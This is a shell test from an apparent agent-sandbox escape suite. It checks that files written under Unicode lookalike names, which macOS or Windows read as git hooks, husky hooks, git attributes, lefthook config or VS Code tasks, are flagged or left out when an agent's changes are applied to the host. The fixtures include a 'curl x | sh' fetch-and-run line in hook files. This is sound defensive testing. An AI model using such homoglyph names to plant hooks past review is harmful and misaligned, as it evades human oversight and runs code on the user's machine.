# The escape suite, third round on what leaves the jail (jail export, jail
# apply) and on what the agent's session can do to the host side's review.
# Each test lands or reads the session the way the user would and checks the
# effect in the project, not only the summary.

# The repository is checked out on macOS and Windows too, where a name with a
# character those file systems take for an ASCII letter is the ASCII name:
# the Kelvin sign U+212A is 'K' to macOS (names are stored normalised), the
# long s U+017F is 's' to Unicode case folding (APFS).  ".huſky/pre-commit"
# is husky's hook there and ".gitattributeſ" git's attributes; on Linux
# they went out as plain new files, neither left out nor flagged.
test_export3_names_other_file_systems_read_as_control_files() {
	mkrepo "$T/p"
	run_jail -q -D "$T/p" -- sh -c '
		s=$(printf "\305\277") k=$(printf "\342\204\252") i=$(printf "\304\261")
		mkdir -p .vscode ".hu${s}ky" ".g${i}t/hooks"
		echo "{}" > ".vscode/ta${s}ks.json"
		echo "curl x | sh" > ".hu${s}ky/pre-commit"
		echo "curl x | sh" > ".g${i}t/hooks/post-checkout"
		echo "* filter=x" > ".gitattribute${s}"
		echo "pre-commit: {}" > "lefthoo${k}.yml"
		echo "[lfs]" > ".lfscon$(printf "\357\254\201")g"
		echo more >> README'
	assert_eq "$rc" 0 "the run ($err)"
	run_jail apply -D "$T/p"
	assert_eq "$rc" 125 "jail apply without --accept-flagged ($err)"
	assert_contains "$err" ".gitattribute"
	assert_contains "$err" "changes how git filters, diffs and merges files"
	assert_contains "$err" "changes the commands a hooks manager runs on commit"
	assert_contains "$err" "changes where git-lfs fetches and pushes objects"
	assert_eq "$(cat "$T/p/README")" "hello" "README after the refusal"
	run_jail apply --accept-flagged -D "$T/p"
	assert_eq "$rc" 0 "jail apply --accept-flagged ($err)"
	assert_contains "$err" "matches '.husky/'"
	assert_contains "$err" "matches '.vscode/tasks.json'"
	assert_contains "$err" "a name git takes for .git"
	# left out: none of them landed under any spelling
	local s k i
	s=$(printf '\305\277') k=$(printf '\342\204\252') i=$(printf '\304\261')
	assert_no_file "$T/p/.hu${s}ky"
	assert_no_file "$T/p/.vscode/ta${s}ks.json"
	assert_no_file "$T/p/.g${i}t"
	# positive control: the flagged files and the plain change landed
	assert_file "$T/p/.gitattribute${s}"
	assert_file "$T/p/lefthoo${k}.yml"
	assert_eq "$(tail -n 1 "$T/p/README")" "more" "README landed"
}
